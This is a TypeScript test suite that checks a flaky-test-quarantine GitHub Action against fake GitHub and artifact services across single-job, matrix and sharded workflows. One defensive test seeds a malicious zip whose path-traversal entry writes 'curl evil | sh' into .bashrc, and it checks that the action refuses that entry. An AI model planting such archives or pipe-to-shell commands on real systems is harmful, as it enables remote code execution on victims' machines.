/**
 * The README's single-job, matrix and aggregate workflows, played against the bundled action: each flakeguard
 * step runs as the runner would run it (inputs from the README's `with:`, expressions evaluated), jobs of a
 * matrix at the same time, against a bare repository, the GitHub REST fake and the artifact service fake.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { World, junitXml, type ActionRun, type CaseSpec, setOverride } from '../support/action.ts';
import { startGitHubFake, type FakeGitHub } from '../support/github-fake/index.ts';
import { startArtifactFake, type FakeArtifactService } from '../support/artifact-fake/index.ts';
import { flakeguardStep, matrixCombinations, readmeWorkflow, stepInputs, toJSON, type Workflow } from '../support/artifact-fake/workflows.ts';
import { zipBytes } from '../support/artifact-fake/zip-writer.ts';
import { expectOutcome } from '../support/expect.ts';

const TOKEN = 'ghs_matrixFakeT0ken_0123456789abcdef';
let world: World;
let gh: FakeGitHub;
let artifacts: FakeArtifactService;

beforeEach(async () => {
  world = await World.create();
  gh = await startGitHubFake({ owner: 'octo', repo: 'project', token: TOKEN });
  artifacts = await startArtifactFake({ github: gh });
});
afterEach(async () => {
  await artifacts.close();
  await gh.close();
  await world.dispose();
});

function expectClean(): void {
  expect(gh.violations()).toEqual([]);
  expect(artifacts.violations()).toEqual([]);
}

/** One job's step of a workflow run: `token` is `${{ github.token }}` (action.yml's default), the APIs are the fakes. */
function step(inputs: Record<string, string>, o: { runId: number; job: string; attempt?: number; workspace?: string; event?: Record<string, unknown>; eventName?: string; ref?: string }) {
  return world.run({
    runId: o.runId,
    runAttempt: o.attempt ?? 1,
    job: o.job,
    ...(o.event ? { event: o.event } : {}),
    ...(o.eventName ? { eventName: o.eventName } : {}),
    ...(o.ref ? { ref: o.ref } : {}),
    inputs: { token: TOKEN, 'check-run': 'true', ...inputs },
    env: { GITHUB_API_URL: gh.url, ...artifacts.env({ runId: o.runId, job: o.job }) },
  });
}

async function dataJson(path: string): Promise<Record<string, unknown>> {
  return JSON.parse((await world.dataFiles()).get(path)!) as Record<string, unknown>;
}

describe('README: quick start (a single job)', () => {
  it('quarantines a test that failed and passed on one commit, then forgives its failure and blocks any other', async () => {
    const wf = await readmeWorkflow('Quick start');
    const fg = flakeguardStep(wf.jobs.test!);
    const play = async (cases: CaseSpec[], outcome: string, runId: number) => {
      await world.writeReport('reports/junit.xml', junitXml(cases));
      return step(stepInputs(fg, { 'steps.tests.outcome': outcome }), { runId, job: 'test' });
    };
    const first = await play([{ name: 'a', attempts: 'FP' }, { name: 'b' }], 'success', 1);
    expectOutcome(first, 'success');
    expect(JSON.parse(first.outputs['newly-quarantined']!)).toEqual(['pkg.Suite::a']);
    const second = await play([{ name: 'a', attempts: 'FP' }, { name: 'b' }], 'success', 2);
    expect(JSON.parse(second.outputs['quarantined-tests']!)).toEqual(['pkg.Suite::a']);
    await world.commit('next');
    const third = await play([{ name: 'a', attempts: 'F' }, { name: 'b' }], 'failure', 3);
    expectOutcome(third, 'success');
    expect(third.outputs['quarantined-failures']).toBe('1');
    expectOutcome(
      await play(
        [
          { name: 'a', attempts: 'F' },
          { name: 'b', attempts: 'F' },
        ],
        'failure',
        4,
      ),
      'failure',
    );
    expect(gh.state.checkRuns.map((c) => c.conclusion)).toEqual(['success', 'success', 'success', 'failure']);
    expectClean();
  });
});

describe('README: a matrix, each job saving its own results', () => {
  let wf: Workflow;
  beforeEach(async () => {
    wf = await readmeWorkflow('A matrix');
  });

  /** One workflow run: every matrix job at once, each with its own report. */
  async function matrixRun(runId: number, reports: (os: string) => { cases: CaseSpec[]; outcome: string }): Promise<Map<string, ActionRun>> {
    const job = wf.jobs.test!;
    const fg = flakeguardStep(job);
    const combos = matrixCombinations(job.strategy!.matrix!);
    const runs = await Promise.all(
      combos.map(async (matrix) => {
        const os = String(matrix.os);
        // Each job has its own workspace in reality; the report path is per job here.
        const dir = `reports-${os}`;
        const r = reports(os);
        await world.writeReport(`${dir}/junit.xml`, junitXml(r.cases));
        const inputs = stepInputs(fg, { 'steps.tests.outcome': r.outcome, 'toJSON(matrix)': toJSON(matrix), 'matrix.os': os });
        inputs.reports = inputs.reports!.replace(/^reports\//, `${dir}/`);
        return [os, await step(inputs, { runId, job: 'test' })] as const;
      }),
    );
    return new Map(runs);
  }

  it('keeps one history per OS: a test flaky only on Windows is quarantined only on Windows', async () => {
    const windowsFlaky = (os: string) => ({ cases: [{ name: 'a', attempts: os === 'windows-latest' ? 'FP' : 'P' }, { name: 'b' }], outcome: 'success' });
    for (const runId of [10, 11]) for (const run of (await matrixRun(runId, windowsFlaky)).values()) expectOutcome(run, 'success');

    const stats = (await dataJson('stats/00.json')).tests as Record<string, { quarantined: boolean }>;
    // Four histories; a stats line only for the test with something to say (schema 3: the others never failed).
    expect(Object.keys((await dataJson('history/00.json')).tests as object).sort()).toEqual([
      'pkg.Suite::a [os=ubuntu-latest]',
      'pkg.Suite::a [os=windows-latest]',
      'pkg.Suite::b [os=ubuntu-latest]',
      'pkg.Suite::b [os=windows-latest]',
    ]);
    expect(Object.keys(stats)).toEqual(['pkg.Suite::a [os=windows-latest]']);
    expect(stats['pkg.Suite::a [os=windows-latest]']!.quarantined).toBe(true);
    const runsTable = (await dataJson('runs.json')).runs as Record<string, [string]>;
    expect(Object.keys(runsTable)).toHaveLength(4); // two workflow runs × two matrix jobs

    // `a` now fails on both: forgiven on Windows, a real failure on Ubuntu.
    await world.commit('next');
    const third = await matrixRun(12, () => ({ cases: [{ name: 'a', attempts: 'F' }, { name: 'b' }], outcome: 'failure' }));
    expectOutcome(third.get('windows-latest')!, 'success');
    expect(third.get('windows-latest')!.outputs['quarantined-failures']).toBe('1');
    expectOutcome(third.get('ubuntu-latest')!, 'failure');
    expect(third.get('ubuntu-latest')!.stdout).toContain('1 failed test is not quarantined');
    // One check run per matrix job, by the README's check-name.
    expect(new Set(gh.state.checkRuns.map((c) => c.name))).toEqual(new Set(['flakeguard (ubuntu-latest)', 'flakeguard (windows-latest)']));
    expectClean();
  });

  it('switching split-history-by on: a hand override under the old id does not apply to the new ids, and a warning says so', async () => {
    const fg = flakeguardStep(wf.jobs.test!);
    const unsplit = { ...stepInputs(fg, { 'steps.tests.outcome': 'success', 'toJSON(matrix)': toJSON({ os: 'windows-latest' }), 'matrix.os': 'windows-latest' }) };
    delete unsplit['split-history-by'];
    await world.writeReport('reports/junit.xml', junitXml([{ name: 'a' }]));
    expectOutcome(await step(unsplit, { runId: 20, job: 'test' }), 'success');
    await world.editDataFile('stats/00.json', (t) => setOverride(t, 'pkg.Suite::a', '"quarantine"'));

    // Now split: the override (written for `pkg.Suite::a`) no longer applies to `pkg.Suite::a [os=windows-latest]`.
    const split = stepInputs(fg, { 'steps.tests.outcome': 'failure', 'toJSON(matrix)': toJSON({ os: 'windows-latest' }), 'matrix.os': 'windows-latest' });
    await world.writeReport('reports/junit.xml', junitXml([{ name: 'a', attempts: 'F' }]));
    const run = await step(split, { runId: 21, job: 'test' });
    expectOutcome(run, 'failure');
    expect(run.stdout).toMatch(
      /^::warning title=flakeguard override not applied::The hand override of 'pkg\.Suite:\u200b?:a' in stats\/00\.json does not apply to 'pkg\.Suite:\u200b?:a \[os=windows-latest\]'/m,
    );
    expectClean();
  });
});

describe('README: the aggregate pattern', () => {
  let wf: Workflow;
  beforeEach(async () => {
    wf = await readmeWorkflow('The aggregate pattern');
  });

  /** The matrix jobs with `mode: upload`; `skip` shards crash before flakeguard runs. */
  async function shards(runId: number, reports: (shard: number) => { cases: CaseSpec[]; outcome: string }, o: { skip?: number[]; attempt?: number; only?: number[] } = {}) {
    const job = wf.jobs.test!;
    const fg = flakeguardStep(job);
    const combos = matrixCombinations(job.strategy!.matrix!).filter((m) => !o.skip?.includes(Number(m.shard)) && (!o.only || o.only.includes(Number(m.shard))));
    return Promise.all(
      combos.map(async (matrix) => {
        const n = Number(matrix.shard);
        const dir = `reports-${n}`;
        await world.writeReport(`${dir}/junit.xml`, junitXml(reports(n).cases));
        const inputs = stepInputs(fg, { 'steps.tests.outcome': reports(n).outcome, 'toJSON(matrix)': toJSON(matrix), 'matrix.shard': String(n) });
        inputs.reports = inputs.reports!.replace(/^reports\//, `${dir}/`);
        const run = await step(inputs, { runId, job: 'test', attempt: o.attempt });
        expectOutcome(run, 'success');
        expect(run.outputs['results-artifact']).toMatch(/^flakeguard-test_shard=\d-[0-9a-f]{10}-a\d$/);
        return run;
      }),
    );
  }

  function aggregate(runId: number, o: { attempt?: number; with?: Record<string, string> } = {}): Promise<ActionRun> {
    const fg = flakeguardStep(wf.jobs.flakeguard!);
    return step({ ...stepInputs(fg, {}), ...o.with }, { runId, job: 'flakeguard', attempt: o.attempt });
  }

  const cases = (shard: number, failing = ''): CaseSpec[] => [
    { classname: `suite${shard}`, name: 'one', attempts: failing || 'P' },
    { classname: `suite${shard}`, name: 'two' },
  ];

  it('ingests every shard in one push, each under its own run identity, and passes when nothing blocks', async () => {
    await shards(30, (n) => ({ cases: cases(n), outcome: 'success' }));
    expect(await world.branchExists('flakeguard-data')).toBe(false); // shards never write
    const run = await aggregate(30);
    expectOutcome(run, 'success');
    expect(JSON.parse(run.outputs['shard-outcomes']!)).toEqual({ 'test (shard=1)': 'success', 'test (shard=2)': 'success', 'test (shard=3)': 'success' });
    expect(JSON.parse(run.outputs['missing-shards']!)).toEqual([]);
    expect(await world.dataCommits()).toHaveLength(1);
    const runsTable = (await dataJson('runs.json')).runs as Record<string, [string, string]>;
    const keys = Object.values(runsTable).map((row) => row[0]);
    expect(keys).toHaveLength(3);
    expect(keys.every((k) => k.startsWith('30/test/'))).toBe(true);
    expect(Object.keys((await dataJson('history/00.json')).tests as object).sort()).toEqual(['suite1::one', 'suite1::two', 'suite2::one', 'suite2::two', 'suite3::one', 'suite3::two']);
    expect(run.summary).toContain('### Shards');
    expect(gh.state.checkRuns.map((c) => [c.name, c.conclusion])).toEqual([['flakeguard', 'success']]);
    expectClean();
  });

  it('fails when one shard has a blocking failure, naming the shard; the others still count', async () => {
    await shards(31, (n) => ({ cases: cases(n, n === 2 ? 'F' : ''), outcome: n === 2 ? 'failure' : 'success' }));
    const run = await aggregate(31);
    expectOutcome(run, 'failure');
    expect(run.stdout).toMatch(/^::error::.*test \(shard=2\): 1 failed test is not quarantined\./m);
    expect(JSON.parse(run.outputs['shard-outcomes']!)).toMatchObject({ 'test (shard=1)': 'success', 'test (shard=2)': 'failure' });
    expect(run.outputs['blocking-failures']).toBe('1');
    expect(gh.state.checkRuns[0]).toMatchObject({ conclusion: 'failure' });
    expect(Object.keys((await dataJson('runs.json')).runs as object)).toHaveLength(3);
    expectClean();
  });

  it('fails when a shard crashed and uploaded nothing, naming it; a count names how many', async () => {
    await shards(32, (n) => ({ cases: cases(n), outcome: 'success' }), { skip: [3] });
    const run = await aggregate(32);
    expectOutcome(run, 'failure');
    expect(run.stdout).toMatch(/^::error::Shard shard=3 uploaded no results: it crashed, was cancelled or skipped/m);
    expect(JSON.parse(run.outputs['missing-shards']!)).toEqual(['shard=3']);
    expect(Object.keys((await dataJson('runs.json')).runs as object)).toHaveLength(2); // what arrived is saved

    const counted = await aggregate(32, { attempt: 2, with: { 'expected-shards': '3' } });
    expectOutcome(counted, 'failure');
    expect(counted.stdout).toContain('1 of 3 expected shards uploaded no results');
    expectClean();
  });

  it('when no shard uploaded anything, fails without touching the data branch', async () => {
    const run = await aggregate(33);
    expectOutcome(run, 'failure');
    expect(JSON.parse(run.outputs['missing-shards']!)).toEqual(['shard=1', 'shard=2', 'shard=3']);
    expect(await world.branchExists('flakeguard-data')).toBe(false);
    expectClean();
  });

  it('a re-run of failed jobs: the re-run shard is decided on its new attempt, and its failure is kept as evidence', async () => {
    await shards(34, (n) => ({ cases: cases(n, n === 2 ? 'F' : ''), outcome: n === 2 ? 'failure' : 'success' }));
    expectOutcome(await aggregate(34), 'failure');
    // "Re-run failed jobs": shard 2 and the aggregating job run again as attempt 2; shard 2 passes now.
    await shards(34, (n) => ({ cases: cases(n), outcome: 'success' }), { only: [2], attempt: 2 });
    const rerun = await aggregate(34, { attempt: 2 });
    expectOutcome(rerun, 'success');
    const history = (await dataJson('history/00.json')).tests as Record<string, { o: string }>;
    expect(history['suite2::one']!.o).toBe('(FP)');
    expect(history['suite1::one']!.o).toBe('P'); // shard 1 (attempt 1) counted once, not again
    // Re-running the aggregating job alone changes nothing.
    const again = await aggregate(34, { attempt: 3 });
    expectOutcome(again, 'success');
    expect(again.outputs['data-commit']).toBe('');
    expectClean();
  });

  it('refuses an artifact that is not a safe archive, names it, and still ingests the others', async () => {
    await shards(35, (n) => ({ cases: cases(n), outcome: 'success' }));
    artifacts.seed({ runId: 35, name: 'flakeguard-evil', bytes: zipBytes([{ name: '../../../.bashrc', content: 'curl evil | sh' }]) });
    const run = await aggregate(35);
    expectOutcome(run, 'failure');
    expect(run.stdout).toMatch(/::error title=flakeguard shard refused::Artifact flakeguard-evil was refused: unsafe archive: entry "..\/..\/..\/.bashrc" has a '..' segment \(path traversal\)/);
    expect(Object.keys((await dataJson('runs.json')).runs as object)).toHaveLength(3);
    expectClean();
  });

  it('splits histories by shard when the aggregating job asks for it', async () => {
    await shards(36, () => ({ cases: [{ classname: 'common', name: 'shared' }], outcome: 'success' }));
    const run = await aggregate(36, { with: { 'split-history-by': 'job-key' } });
    expectOutcome(run, 'success');
    expect(Object.keys((await dataJson('history/00.json')).tests as object).sort()).toEqual(['common::shared [shard=1]', 'common::shared [shard=2]', 'common::shared [shard=3]']);
    expectClean();
  });
});
